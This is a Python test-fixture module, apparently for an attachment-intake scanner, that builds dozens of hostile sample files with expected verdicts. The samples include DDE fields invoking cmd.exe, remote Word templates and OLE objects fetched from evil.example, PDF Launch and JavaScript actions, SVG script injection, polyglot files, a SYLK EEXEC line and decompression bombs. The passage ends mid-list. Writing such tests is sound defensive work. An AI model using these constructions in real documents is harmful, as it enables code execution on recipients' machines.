"""Group A, and what of Z, X and T comes in attachments: files that are active, hidden, huge, broken or merely unusual."""

# long: the rows of a group stand together, one line each.
import base64
import random
from collections.abc import Callable
from dataclasses import dataclass, replace
from functools import partial

from samples.attachments import Attachment
from samples.packages import Spoiling
from tests.casework.intake.packages import package
from tests.hostile.material import compounds, offices, pdfs, pictures
from tests.proof import zips
from tests.proof.zips import STORED, Part
from todoke.casework.intake.values import AttachmentState

SOUND, FLAGGED, SEALED = AttachmentState.SOUND, AttachmentState.FLAGGED, AttachmentState.SEALED
REFUSED = "PKG-101"
PROBE = b"aaaaaaaaaaaaaaaaaaaaaaaaaa!"


_STORED = Spoiling(entries=lambda entries: [replace(one, method=STORED) for one in entries])


@dataclass(frozen=True, slots=True)
class Attached:
    """One attachment: its name and bytes, its state afterwards, the code that decides it, and what else is noted.

    `code` REFUSED: the whole package is refused（Z01）. `found` holds every other code, in the order of their weight.
    """

    number: str
    condition: str
    name: str
    build: Callable[[], bytes]
    state: AttachmentState = SOUND
    code: str = ""
    found: tuple[str, ...] = ()

    def __str__(self) -> str:
        return f"{self.number}-{self.condition.replace(' ', '-')}"

    def packed(self) -> bytes:
        """A package that is sound but for this attachment."""
        return package("P02", attachments=(Attachment(self.name, self.build()),), spoiling=_STORED)


def _of(content: bytes) -> Callable[[], bytes]:
    return lambda: content


def _zip() -> bytes:
    return zips.build([Part(b"inner.txt", b"inner")])


def _nested(levels: int) -> bytes:
    inner = _zip()
    for number in range(levels):
        inner = zips.build([Part(b"%d.zip" % number, inner, STORED)])
    return inner


def _tar() -> bytes:
    return b"a.txt".ljust(257, b"\0") + b"ustar\x0000" + bytes(248)


_LZH = b"\x20\x00-lh5-" + bytes(40)
_RAR = b"Rar!\x1a\x07\x01\x00" + bytes(40)
_SEVEN = b"7z\xbc\xaf\x27\x1c\0\4" + bytes(40)

INSIDE = (
    Attached("Z01", "an archive as attachment", "inner.zip", _zip, code=REFUSED),
    Attached("Z01", "an archive renamed to pdf", "inner.pdf", _zip, code=REFUSED),
    Attached("Z01", "archives five levels deep", "inner.docx", partial(_nested, 5), code=REFUSED),
    Attached("Z01", "RAR", "a.rar", _of(_RAR), code=REFUSED),
    Attached("Z01", "7z renamed to jpg", "a.jpg", _of(_SEVEN), code=REFUSED),
    Attached("Z01", "LZH", "a.lzh", _of(_LZH), code=REFUSED),
    Attached("Z01", "gzip", "a.gz", _of(b"\x1f\x8b\x08" + bytes(40)), code=REFUSED),
    Attached("Z01", "tar", "a.tar", _tar, code=REFUSED),
    Attached("Z01", "cabinet", "a.cab", _of(b"MSCF" + bytes(40)), code=REFUSED),
    Attached("Z01", "an archive embedded in a document", "a.docx",
             lambda: offices.docx({"word/embeddings/a.bin": _zip()}), SEALED, "ATT-617"),
    Attached("Z01", "RAR among the pictures of a document", "a.docx",
             lambda: offices.docx({"word/media/image1.png": _RAR}), SEALED, "ATT-617"),
    Attached("Z01", "LZH under the name of a part", "a.xlsx",
             lambda: offices.xlsx({"xl/media/a.xml": _LZH}), SEALED, "ATT-617"),
    Attached("Z01", "a program embedded in a document", "a.docx",
             lambda: offices.docx({"word/embeddings/a.bin": b"MZ" + bytes(99)}), SEALED, "ATT-617"),
    Attached("Z01", "a chart's workbook in a document", "a.docx",
             lambda: offices.docx({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": offices.xlsx()}), FLAGGED, "ATT-617"),
    Attached("Z01", "a document that inflates a thousandfold", "a.docx",
             lambda: offices.docx({"word/media/a.bmp": bytes(5_000_000)}), SEALED, "ATT-605"),
    Attached("Z01", "a document with a locked part", "a.docx",
             lambda: _flagged(offices.docx()), SEALED, "ATT-602"),
)  # fmt: skip


def _flagged(document: bytes) -> bytes:
    """Every header of a ZIP says: encrypted."""
    changed = bytearray(document)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = document.find(mark)
        while at >= 0:
            changed[at + place] |= 1
            at = document.find(mark, at + 1)
    return bytes(changed)


def _macro_docx(name: str) -> bytes:
    return offices.docx({name: b"macro"})


_MACRO_XML = (
    '<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
    '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" w:macrosPresent="yes"/>'
)
_WEB_ARCHIVE = b"MIME-Version: 1.0\nContent-Type: multipart/related\n\nContent-Type: application/x-mso\n"
_DDE = ("DDEAUTO c:\\\\Windows\\\\cmd.exe", " /k calc")
_RELATION_16 = offices.relation("attachedTemplate", "http://evil.example/a.dotm").replace("UTF-8", "UTF-16")
_HIDDEN_TARGET = offices.relation("attachedTemplate", "&#104;ttp://evil.example/a.dotm")

MACROS = (
    Attached("A02", "docm", "a.docm", lambda: _macro_docx("word/vbaProject.bin"), SEALED, "ATT-608", ("ATT-606",)),
    Attached("A02", "docm renamed to docx", "a.docx", lambda: _macro_docx("word/vbaProject.bin"), SEALED, "ATT-608",
             ("ATT-606",)),
    Attached("A02", "xlsm renamed to xlsx", "a.xlsx", lambda: offices.xlsx({"xl/vbaProject.bin": b"macro"}),
             SEALED, "ATT-608", ("ATT-606",)),
    Attached("A02", "a macro sheet in xlsx", "a.xlsx", lambda: offices.xlsx({"xl/macrosheets/sheet1.xml": "<x/>"}),
             SEALED, "ATT-608", ("ATT-606",)),
    Attached("A02", "a macro under another name", "a.docx",
             lambda: offices.declaring("application/vnd.ms-office.vbaProject"), SEALED, "ATT-608"),
    Attached("A02", "a document declared with macros", "a.docx",
             lambda: offices.declaring("application/vnd.ms-word.document.macroEnabled.main+xml"), SEALED, "ATT-608"),
    Attached("A02", "ActiveX", "a.docx", lambda: _macro_docx("word/activeX/activeX1.xml"), SEALED, "ATT-608"),
    Attached("A02", "doc with macros", "a.doc", lambda: compounds.word(storages=("Macros", "VBA")), SEALED, "ATT-608"),
    Attached("A02", "xls with macros", "a.xls", lambda: compounds.sheets(storages=("_VBA_PROJECT_CUR", "VBA")),
             SEALED, "ATT-608"),
    Attached("A02", "xls4 macro sheet", "a.xls",
             lambda: compounds.sheets(compounds.bound_sheet(0), compounds.bound_sheet(1)), SEALED, "ATT-608"),
    Attached("A02", "ppt with macros", "a.ppt", compounds.macro_slides, SEALED, "ATT-608"),
    Attached("A02", "DDE in docx", "a.docx", lambda: offices.with_field("".join(_DDE)), SEALED, "ATT-608"),
    Attached("A02", "DDE cut into runs", "a.docx", lambda: offices.with_field("DD", "E", "AUTO cmd"), SEALED, "ATT-608"),
    Attached("A02", "DDE in a simple field", "a.docx", lambda: offices.with_field(*_DDE, simple=True), SEALED, "ATT-608"),
    Attached("A02", "DDE in xlsx", "a.xlsx", offices.with_live_link, SEALED, "ATT-608"),
    Attached("A02", "DDE in doc", "a.doc", lambda: compounds.word(b"\x13DDEAUTO cmd\x14"), SEALED, "ATT-608"),
    Attached("A02", "DDE in wide characters in doc", "a.doc",
             lambda: compounds.word("\x13 DDE cmd\x14".encode("utf-16-le")), SEALED, "ATT-608"),
    Attached("A02", "DDE in xls", "a.xls", lambda: compounds.sheets(compounds.record(0x23, b"\x02\0")), SEALED, "ATT-608"),
    Attached("A02", "an OLE object in docx", "a.docx",
             lambda: offices.docx({"word/embeddings/oleObject1.bin": compounds.word()}), SEALED, "ATT-608"),
    Attached("A02", "an OLE object in xls", "a.xls", lambda: compounds.sheets(storages=("MBD0012AB34",)), SEALED, "ATT-608"),
    Attached("A02", "an OLE object in doc", "a.doc", lambda: compounds.word(storages=("ObjectPool", "_1234567890")),
             SEALED, "ATT-608"),
    Attached("A02", "an OLE object in ppt", "a.ppt",
             lambda: compounds.slides(b"\x01\0\xc3\x0f\x18\0\0\0" + bytes(24)), SEALED, "ATT-608"),
    Attached("A02", "an object in rtf named doc", "a.doc", _of(rb"{\rtf1{\object\objdata 0105}}"), SEALED, "ATT-608",
             ("ATT-606",)),
    Attached("A02", "a document in XML with macros", "a.xml", _of(_MACRO_XML.encode()), SEALED, "ATT-608"),
    Attached("A02", "a remote template over http", "a.docx",
             lambda: offices.related("attachedTemplate", "https://evil.example/a.dotm"), SEALED, "ATT-608"),
    Attached("A02", "a remote template on a share", "a.docx",
             lambda: offices.related("attachedTemplate", r"\\evil.example\share\a.dotm"), SEALED, "ATT-608"),
    Attached("A02", "a remote template on a share as file", "a.docx",
             lambda: offices.related("attachedTemplate", r"file:///\\evil.example\share\a.dotm"), SEALED, "ATT-608"),
    Attached("A02", "a remote template in UTF-16", "a.docx",
             lambda: offices.docx({"word/_rels/settings.xml.rels": _RELATION_16.encode("utf-16")}), SEALED, "ATT-608"),
    Attached("A02", "a remote template behind a character reference", "a.docx",
             lambda: offices.docx({"word/_rels/settings.xml.rels": _HIDDEN_TARGET}), SEALED, "ATT-608"),
    Attached("A02", "a remote object", "a.docx", lambda: offices.related("oleObject", "http://evil.example/a.hta"),
             SEALED, "ATT-608"),
    Attached("A02", "a remote frame", "a.docx", lambda: offices.related("frame", "http://evil.example/"), SEALED, "ATT-608"),
    Attached("A02", "a remote picture", "a.docx", lambda: offices.related("image", "http://evil.example/a.png"),
             FLAGGED, "ATT-608"),
    Attached("A02", "relations with a DTD", "a.docx",
             lambda: offices.docx({"word/_rels/settings.xml.rels": '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'}),
             SEALED, "ATT-611"),
    Attached("A02", "DDE in a part of another name", "a.docx", offices.with_renamed_part, SEALED, "ATT-608"),
    Attached("A02", "relations in capitals", "a.docx",
             lambda: offices.docx({"word/_RELS/settings.xml.RELS": offices.relation("frame", "http://evil.example")}),
             SEALED, "ATT-608"),
    Attached("A02", "a web archive with macros named doc", "a.doc", _of(_WEB_ARCHIVE), SEALED, "ATT-608", ("ATT-607",)),
    Attached("A02", "a symbolic link sheet named csv", "a.csv", _of(b"ID;PWXL;N;E\nC;X1;Y1;EEXEC(1)\n"), SEALED, "ATT-608"),
    Attached("A02", "a plain link", "a.docx", lambda: offices.related("hyperlink", "https://www.city.example/")),
    Attached("A02", "a template on the own disk", "a.docx",
             lambda: offices.related("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm")),
    Attached("A02", "a plain field", "a.docx", lambda: offices.with_field("DATE \\@ yyyy")),
    Attached("A02", "a plain doc", "a.doc", lambda: compounds.word(b"text", storages=("ObjectPool",))),
    Attached("A02", "a plain xls", "a.xls", lambda: compounds.sheets(compounds.bound_sheet(0))),
    Attached("A02", "a plain ppt", "a.ppt", compounds.slides),
)  # fmt: skip

_JAVASCRIPT = b"/S /JavaScript /JS (app.alert\\(1\\))"
_ESCAPED = b"/S /J#61va#53cript /J#53 (x)"
_PACKED_ACTION = pdfs.object_stream({20: b"<< /S /Launch /F (cmd.exe) >>"})
_EXE = pdfs.stream(b"MZ" + bytes(99), b"/Type /EmbeddedFile")
_NAMES = b"/Names << /EmbeddedFiles << /Names [(a.exe) 7 0 R] >> >>"


def _annotated(action: bytes) -> Callable[[], bytes]:
    """A document with a link that acts."""
    link = b"<< /Type /Annot /Subtype /Link /A << %s >> >>" % action
    return lambda: pdfs.build(pdfs.sound(o8=link) | {pdfs.PAGE: pdfs.page(b"/Annots [8 0 R]")})


PDFS = (
    Attached("A03", "JavaScript on opening", "a.pdf", lambda: pdfs.action(_JAVASCRIPT), FLAGGED, "ATT-603", ("ATT-603",)),
    Attached("A03", "JavaScript behind escapes", "a.pdf", _annotated(_ESCAPED), FLAGGED, "ATT-603"),
    Attached("A03", "an OpenAction that cannot be found", "a.pdf",
             lambda: pdfs.build(pdfs.sound(b"/OpenAction 77 0 R")), FLAGGED, "ATT-603"),
    Attached("A03", "a launch in an object stream", "a.pdf",
             lambda: pdfs.build(pdfs.sound(o9=_PACKED_ACTION)), FLAGGED, "ATT-603"),
    Attached("A03", "Launch", "a.pdf", _annotated(b"/S /Launch /F (cmd.exe)"), FLAGGED, "ATT-603"),
    Attached("A03", "an embedded program", "a.pdf", lambda: pdfs.build(pdfs.sound(_NAMES, o7=_EXE)), FLAGGED, "ATT-603"),
    Attached("A03", "XFA", "a.pdf", lambda: pdfs.build(pdfs.sound(b"/AcroForm << /XFA 7 0 R >>")), FLAGGED, "ATT-603"),
    Attached("A03", "an additional action", "a.pdf", lambda: pdfs.build(pdfs.sound(b"/AA << /WC 7 0 R >>")),
             FLAGGED, "ATT-603"),
    Attached("A03", "a form that is sent", "a.pdf", _annotated(b"/S /SubmitForm /F (http://evil.example)"),
             FLAGGED, "ATT-603"),
    Attached("A03", "rich media", "a.pdf", _annotated(b"/Subtype /RichMedia"), FLAGGED, "ATT-603"),
    Attached("A03", "a link to a file", "a.pdf", _annotated(b"/S /URI /URI (file:///c:/windows/cmd.exe)"),
             FLAGGED, "ATT-603"),
    Attached("A03", "a link to a share", "a.pdf", _annotated(b"/S /URI /URI (\\\\evil.example\\a)"), FLAGGED, "ATT-603"),
    Attached("A03", "an object stream that cannot be read", "a.pdf",
             lambda: pdfs.build(pdfs.sound(o9=pdfs.stream(b"x", b"/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode"))),
             FLAGGED, "ATT-616"),
    Attached("A03", "an object stream whose packing is escaped", "a.pdf", lambda: pdfs.build(
        pdfs.sound(o9=_PACKED_ACTION.replace(b"/FlateDecode", b"/#46lateDecode"))), FLAGGED, "ATT-616"),
    Attached("A03", "encrypted PDF", "a.pdf", lambda: pdfs.build(pdfs.sound(), b"/Encrypt 9 0 R"), SEALED, "ATT-602"),
    Attached("A03", "encrypted PDF by its stream", "a.pdf",
             lambda: pdfs.with_xref_stream(pdfs.sound(), b"/Encrypt 9 0 R"), SEALED, "ATT-602"),
    Attached("A03", "encrypted PDF behind an escape", "a.pdf",
             lambda: pdfs.build(pdfs.sound(), b"/#45ncrypt 9 0 R"), SEALED, "ATT-602"),
    Attached("A03", "encrypted docx", "a.docx",
             lambda: compounds.build({"EncryptionInfo": bytes(200), "EncryptedPackage": bytes(5_000)}),
             SEALED, "ATT-602", ("ATT-606",)),
    Attached("A03", "encrypted doc", "a.doc", lambda: compounds.word(flags=0x0100), SEALED, "ATT-602"),
    Attached("A03", "encrypted xls", "a.xls", lambda: compounds.sheets(compounds.record(0x2F, bytes(54))),
             SEALED, "ATT-602"),
    Attached("A03", "encrypted ppt", "a.ppt", lambda: compounds.slides(token=0xF3D1C4DF), SEALED, "ATT-602"),
    Attached("A03", "a damaged end", "a.pdf", lambda: pdfs.build(pdfs.sound(), ending=b""), FLAGGED, "ATT-611"),
    Attached("A03", "half a PDF", "a.pdf", lambda: pdfs.build(pdfs.sound())[:300], FLAGGED, "ATT-611"),
    Attached("A03", "a PDF without pages", "a.pdf",
             lambda: pdfs.build({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: pdfs.pages([])}), FLAGGED, "ATT-611"),
    Attached("A03", "an OpenAction that turns to a page", "a.pdf",
             lambda: pdfs.build(pdfs.sound(b"/OpenAction [3 0 R /Fit]"))),
    Attached("A03", "an OpenAction that goes to a page", "a.pdf",
             lambda: pdfs.action(b"/S /GoTo /D [3 0 R /Fit]")),
    Attached("A03", "an OpenAction in a stream of objects that goes to a page", "a.pdf", lambda: _opening_inside(b"/GoTo")),
    Attached("A03", "an OpenAction in a stream of objects that goes elsewhere", "a.pdf",
             lambda: _opening_inside(b"/Named"), FLAGGED, "ATT-603"),
    Attached("A03", "a link to the web", "a.pdf", _annotated(b"/S /URI /URI (https://www.city.example/)")),
    Attached("A03", "the letters of a script in a picture", "a.pdf",
             lambda: pdfs.build(pdfs.sound(o9=pdfs.stream(b"\x90\x81\xfe/JS (\xff\xfe\x80" * 9)))),
    Attached("A03", "a plain PDF with streams of objects", "a.pdf",
             lambda: pdfs.with_xref_stream(pdfs.sound(o9=pdfs.object_stream({20: pdfs.page(), 21: b"[1 2]"})))),
)  # fmt: skip


def _opening_inside(kind: bytes) -> bytes:
    action = b"<< /S %s /D [3 0 R /Fit] >>" % kind
    return pdfs.with_xref_stream(
        pdfs.sound(b"/OpenAction 120 0 R", o9=pdfs.object_stream({20: b"[1]", 120: action}))
    )


_HTML = b"<html><script>alert(1)</script></html>"

POLYGLOTS = (
    Attached("A04", "PDF and HTML", "a.pdf", lambda: pdfs.build({0: _HTML} | pdfs.sound()), SEALED, "ATT-610"),
    Attached("A04", "PDF with HTML behind it", "a.pdf", lambda: pdfs.build(pdfs.sound()) + _HTML, SEALED, "ATT-610"),
    Attached("A04", "HTML and PDF", "a.txt", lambda: b"<html><!--" + pdfs.build(pdfs.sound()) + b"--></html>",
             SEALED, "ATT-610", ("ATT-606",)),
    Attached("A04", "GIF and JS", "a.gif", lambda: b"GIF89a/*" + pictures.gif(1, 1)[8:] + b"*/=1;alert(1)",
             SEALED, "ATT-610"),
    Attached("A04", "GIF and JS by assignment", "a.gif", lambda: b"GIF89a='" + pictures.gif(1, 1)[8:] + b"';alert(1)",
             SEALED, "ATT-610"),
    Attached("A04", "JPEG and JS", "a.jpg", _of(b"\xff\xd8\xff\xe0/*" + bytes(12_072) + b"\xff\xfe\0\x08*/=1;a"),
             SEALED, "ATT-610", ("ATT-611",)),
    Attached("A04", "PDF and ZIP", "a.pdf", lambda: pdfs.build(pdfs.sound()) + _zip(), SEALED, "ATT-610"),
    Attached("A04", "PDF and ZIP that hides in a comment", "a.pdf", lambda: _wrapped(pdfs.build(pdfs.sound())),
             SEALED, "ATT-610"),
    Attached("A04", "JPEG and ZIP", "a.jpg", lambda: pictures.drawn("JPEG") + _zip(), SEALED, "ATT-610"),
    Attached("A04", "PNG and ZIP", "a.png", lambda: pictures.drawn("PNG") + _zip(), SEALED, "ATT-610"),
    Attached("A04", "JPEG and RAR", "a.jpg", lambda: pictures.drawn("JPEG") + _RAR, SEALED, "ATT-610"),
    Attached("A04", "PNG and a program", "a.png", lambda: pictures.drawn("PNG") + b"MZ" + bytes(99), SEALED, "ATT-610"),
    Attached("A04", "text and PDF", "a.txt", lambda: b"memo\n" + pdfs.build(pdfs.sound()), SEALED, "ATT-610"),
    Attached("A04", "JPEG with another photograph behind it", "a.jpg",
             lambda: pictures.drawn("JPEG") + pictures.drawn("JPEG")),
)  # fmt: skip


def _wrapped(document: bytes) -> bytes:
    """A ZIP behind a document whose end is repeated in the ZIP's comment."""
    end = document[document.rindex(b"startxref") :]
    return document + zips.build([Part(b"inner.txt", b"inner")], comment=end)


def _svg(inside: str, attributes: str = "") -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg" {attributes}>{inside}</svg>'.encode()


_PAGE = b"<html><body>hello</body></html>"
MARKUP = (
    Attached("A06", "SVG with a script", "a.svg", _of(_svg("<script>alert(1)</script>")), SEALED, "ATT-609", ("ATT-606",)),
    Attached("A06", "SVG with a script under another prefix", "a.svg",
             _of(_svg('<x:script xmlns:x="http://www.w3.org/2000/svg">1</x:script>')), SEALED, "ATT-609", ("ATT-606",)),
    Attached("A06", "SVG with foreignObject", "a.svg", _of(_svg("<foreignObject/>")), SEALED, "ATT-609", ("ATT-606",)),
    Attached("A06", "SVG with a remote image", "a.svg", _of(_svg('<image href="https://evil.example/a.png"/>')),
             SEALED, "ATT-609", ("ATT-606",)),
    Attached("A06", "SVG that acts on loading", "a.svg", _of(_svg("", 'onload="x()"')), SEALED, "ATT-609", ("ATT-606",)),
    Attached("A06", "SVG with a script as address", "a.svg", _of(_svg('<a href="javascript:x()"/>')),
             SEALED, "ATT-609", ("ATT-606",)),
    Attached("A06", "SVG with an entity", "a.svg", _of(b'<!DOCTYPE svg [<!ENTITY x "y">]>' + _svg("&x;")),
             SEALED, "ATT-609", ("ATT-606",)),
    Attached("A06", "SVG with a script in UTF-16", "a.svg",
             _of(_svg("<script>1</script>").decode().encode("utf-16")), SEALED, "ATT-609", ("ATT-606",)),
    Attached("A06", "SVG named xml", "a.xml", _of(_svg("<script>1</script>")), SEALED, "ATT-609", ("ATT-606",)),
    Attached("A06", "XML that becomes a page", "a.xml",
             _of(b'<a><b:script xmlns:b="http://www.w3.org/1999/xhtml">x()</b:script></a>'), SEALED, "ATT-609"),
    Attached("A06", "XML that becomes a page behind a reference", "a.xml",
             _of(b'<a><b:script xmlns:b="&#104;ttp://www.w3.org/1999/xhtml">x()</b:script></a>'), SEALED, "ATT-609"),
    Attached("A06", "XML with a style sheet", "a.xml", _of(b'<?xml-stylesheet href="http://evil.example/a.xsl"?><a/>'),
             SEALED, "ATT-609"),
    Attached("A06", "HTML with a script", "a.html", _of(_HTML), SEALED, "ATT-609", ("ATT-606",)),
    Attached("A06", "a plain SVG", "a.svg", _of(_svg("<path d='M0 0'/>")), FLAGGED, "ATT-606"),
    Attached("A06", "a plain page", "a.html", _of(_PAGE), FLAGGED, "ATT-606"),
    Attached("A06", "a plain XML", "a.xml", _of("<申請><氏名>架空</氏名></申請>".encode())),
)  # fmt: skip

EMPTY = tuple(
    Attached("A07", f"0 bytes named {extension}", f"a.{extension}", _of(b""), FLAGGED, "ATT-604")
    for extension in ("pdf", "jpg", "docx", "txt", "csv", "exe")
)
PIXELS = (
    Attached("A08", "PNG 60000 by 60000", "a.png", lambda: pictures.png(60_000, 60_000), SEALED, "ATT-605"),
    Attached("A08", "PNG 9000 by 9000", "a.png", lambda: pictures.png(9_000, 9_000), SEALED, "ATT-605"),
    Attached("A08", "JPEG 60000 by 60000", "a.jpg", lambda: pictures.jpeg(60_000, 60_000), SEALED, "ATT-605"),
    Attached("A08", "JPEG 9000 by 9000", "a.jpg", lambda: pictures.jpeg(9_000, 9_000), SEALED, "ATT-605"),
    Attached("A08", "GIF 60000 by 60000", "a.gif", lambda: pictures.gif(60_000, 60_000), SEALED, "ATT-605"),
    Attached("A08", "TIFF 60000 by 60000", "a.tif", lambda: pictures.tiff(60_000, 60_000), SEALED, "ATT-605"),
    Attached("A08", "HEIC 60000 by 60000", "a.heic", lambda: pictures.heic(60_000, 60_000), SEALED, "ATT-605", ("ATT-606",)),
    Attached("A08", "just 50 million pixels", "a.png", lambda: pictures.png(10_000, 5_000)),
    Attached("A08", "one row over 50 million pixels", "a.png", lambda: pictures.png(10_000, 5_001), SEALED, "ATT-605"),
    Attached("A08", "APNG of 10000 frames", "a.png",
             lambda: pictures.png(8, 8, stated_frames=10_000, frames=10_000), SEALED, "ATT-605"),
    Attached("A08", "APNG that states one frame of 10000", "a.png",
             lambda: pictures.png(8, 8, stated_frames=1, frames=10_000), SEALED, "ATT-605"),
    Attached("A08", "APNG that states 10000 frames and has none", "a.png",
             lambda: pictures.png(8, 8, stated_frames=10_000), SEALED, "ATT-605"),
    Attached("A08", "GIF of 10000 frames", "a.gif", lambda: pictures.gif(8, 8, 10_000), SEALED, "ATT-605"),
    Attached("A08", "GIF of 500 frames", "a.gif", lambda: pictures.gif(8, 8, 500)),
    Attached("A08", "TIFF of 5000 pages", "a.tif", lambda: pictures.tiff(8, 8, 5_000), SEALED, "ATT-605"),
    Attached("A08", "wide TIFF of 5000 pages", "a.tif", lambda: pictures.tiff(8, 8, 5_000, is_wide=True), SEALED, "ATT-605"),
    Attached("A08", "TIFF whose pages turn back", "a.tif", lambda: pictures.tiff(8, 8, 3, is_loop=True), SEALED, "ATT-605"),
    Attached("A08", "TIFF of 500 pages", "a.tif", lambda: pictures.tiff(8, 8, 500)),
)  # fmt: skip
PHOTOGRAPHS = (
    Attached("A09", "JPEG truncated", "a.jpg", lambda: pictures.drawn("JPEG", size=(400, 400))[:-300], FLAGGED, "ATT-611"),
    Attached("A09", "JPEG truncated in its header", "a.jpg", lambda: pictures.drawn("JPEG")[:100], FLAGGED, "ATT-611"),
    Attached("A09", "PNG truncated", "a.png", lambda: pictures.drawn("PNG")[:-9], FLAGGED, "ATT-611"),
    Attached("A09", "GIF truncated", "a.gif", lambda: pictures.drawn("GIF")[:-9], FLAGGED, "ATT-611"),
    Attached("A09", "TIFF truncated", "a.tif", lambda: pictures.tiff(8, 8)[:-9], FLAGGED, "ATT-611"),
    Attached("A09", "CMYK", "a.jpg", lambda: pictures.drawn("JPEG", "CMYK")),
    Attached("A09", "16-bit", "a.png", lambda: pictures.drawn("PNG", "I;16")),
    Attached("A09", "HEIC", "a.heic", pictures.heic, FLAGGED, "ATT-606"),
    Attached("A09", "HEIC named jpg", "a.jpg", pictures.heic, FLAGGED, "ATT-606"),
    Attached("A09", "WebP", "a.webp", lambda: pictures.drawn("WEBP"), FLAGGED, "ATT-606"),
    Attached("A09", "BMP named jpg", "a.jpg", lambda: pictures.drawn("BMP"), FLAGGED, "ATT-606"),
    Attached("A09", "EXIF with a place", "a.jpg", lambda: pictures.photograph(place=True), found=("ATT-613",)),
    Attached("A09", "EXIF with an orientation", "a.jpg", lambda: pictures.photograph(orientation=6)),
)  # fmt: skip


def _fields(count: int) -> dict[int, bytes]:
    kids = list(range(1_000, 1_000 + count))
    listed = b" ".join(b"%d 0 R" % kid for kid in kids)
    return {20: b"<< /T (fields) /Kids [%s] >>" % listed} | dict.fromkeys(
        kids, b"<< /Type /Annot /Subtype /Widget >>"
    )


def _form(fields: int) -> bytes:
    return pdfs.build(pdfs.sound(b"/AcroForm << /Fields [20 0 R] >>") | _fields(fields))


def _packed_form(fields: int) -> bytes:
    sound = pdfs.sound(b"/AcroForm << /Fields [20 0 R] >>")
    tree = {pdfs.PAGES: sound.pop(pdfs.PAGES), pdfs.PAGE: sound.pop(pdfs.PAGE)}
    return pdfs.with_xref_stream(sound | {9: pdfs.object_stream(tree | _fields(fields))})


def _many_roots(count: int) -> bytes:
    """Trees beside one another, each of which fans out."""
    nodes = {10 + number: pdfs.pages([5_000] * 400, 1) for number in range(count)}
    return pdfs.build(pdfs.sound() | nodes | {5_000: pdfs.pages([5_001] * 400, 1), 5_001: pdfs.page()})


PAGES = (
    Attached("A10", "PDF of 10000 pages", "a.pdf", lambda: pdfs.many_pages(10_000), SEALED, "ATT-605"),
    Attached("A10", "PDF of 501 pages", "a.pdf", lambda: pdfs.many_pages(501), SEALED, "ATT-605"),
    Attached("A10", "PDF of 500 pages", "a.pdf", lambda: pdfs.many_pages(500)),
    Attached("A10", "a form of 600 fields", "a.pdf", lambda: _form(600)),
    Attached("A10", "a form of 600 fields in a stream of objects", "a.pdf", lambda: _packed_form(600)),
    Attached("A10", "a page tree of many roots", "a.pdf", lambda: _many_roots(300), SEALED, "ATT-605"),
    Attached("A10", "PDF that states 10000 pages", "a.pdf",
             lambda: pdfs.build(pdfs.sound() | {pdfs.PAGES: pdfs.pages([pdfs.PAGE], 10_000)}), SEALED, "ATT-605"),
    Attached("A10", "PDF that lists one page 10000 times", "a.pdf",
             lambda: pdfs.build(pdfs.sound() | {pdfs.PAGES: pdfs.pages([pdfs.PAGE] * 10_000, 1)}), SEALED, "ATT-605"),
    Attached("A10", "PDF whose page tree fans out", "a.pdf", lambda: pdfs.fan(8, 10), SEALED, "ATT-605"),
    Attached("A10", "PDF of 10000 pages in a stream of objects", "a.pdf", lambda: _packed_pages(10_000), SEALED, "ATT-605"),
    Attached("A10", "PDF with a page of 20001 pt", "a.pdf",
             lambda: pdfs.build(pdfs.sound() | {pdfs.PAGE: pdfs.page(box=b"/MediaBox [0 0 20001 842]")}), SEALED, "ATT-605"),
    Attached("A10", "PDF with a page of 20001 pt to the left", "a.pdf",
             lambda: pdfs.build(pdfs.sound() | {pdfs.PAGE: pdfs.page(box=b"/MediaBox [-10001.5 0 10000 842]")}),
             SEALED, "ATT-605"),
    Attached("A10", "PDF with a page of 20000 pt", "a.pdf",
             lambda: pdfs.build(pdfs.sound() | {pdfs.PAGE: pdfs.page(box=b"/MediaBox[0 0 20000 842]")})),
    Attached("A10", "deep object tree of pages", "a.pdf", lambda: pdfs.deep_tree(3_000), SEALED, "ATT-605"),
    Attached("A10", "deep object tree of arrays", "a.pdf",
             lambda: pdfs.build(pdfs.sound(o9=b"[" * 5_000 + b"]" * 5_000)), SEALED, "ATT-605"),
    Attached("A10", "deep object tree of spaced arrays", "a.pdf",
             lambda: pdfs.build(pdfs.sound(o9=b"[ " * 5_000 + b"] " * 5_000)), SEALED, "ATT-605"),
    Attached("A10", "a page tree that turns back", "a.pdf",
             lambda: pdfs.build(pdfs.sound() | {pdfs.PAGES: pdfs.pages([2])}), SEALED, "ATT-605"),
    Attached("A10", "xref loop to itself", "a.pdf", pdfs.turning_back, SEALED, "ATT-605"),
    Attached("A10", "xref loop over two", "a.pdf", lambda: pdfs.turning_back(over_two=True), SEALED, "ATT-605"),
    Attached("A10", "xref that leads nowhere", "a.pdf",
             lambda: pdfs.build(pdfs.sound(), ending=b"startxref\n99999999\n%%EOF\n"), FLAGGED, "ATT-611"),
)  # fmt: skip


def _packed_pages(count: int) -> bytes:
    kids = list(range(100, 100 + count))
    packed = pdfs.object_stream({pdfs.PAGES: pdfs.pages(kids)} | dict.fromkeys(kids, pdfs.page()))
    return pdfs.with_xref_stream({1: pdfs.sound()[1], 9: packed})


def _open_document() -> bytes:
    kind = b"application/vnd.oasis.opendocument.text"
    return zips.build([Part(b"mimetype", kind, STORED), Part(b"content.xml", b"<a/>")])


_LONG = "申" * 250
NAMES = (
    Attached("A13", "PDF named jpg", "a.jpg", lambda: pdfs.build(pdfs.sound()), FLAGGED, "ATT-607"),
    Attached("A13", "PDF declared as html", "a.html", lambda: pdfs.build(pdfs.sound()), FLAGGED, "ATT-606"),
    Attached("A13", "JPEG named PDF", "a.PDF", lambda: pictures.drawn("JPEG"), FLAGGED, "ATT-607"),
    Attached("A13", "upper case extension", "A.JPG", lambda: pictures.drawn("JPEG")),
    Attached("A13", "no extension", "a", lambda: pdfs.build(pdfs.sound()), FLAGGED, "ATT-606"),
    Attached("A13", "two extensions", "a.pdf.exe", lambda: pdfs.build(pdfs.sound()), FLAGGED, "ATT-606"),
    Attached("A13", "a program named pdf", "a.pdf", _of(b"MZ" + bytes(99)), SEALED, "ATT-606"),
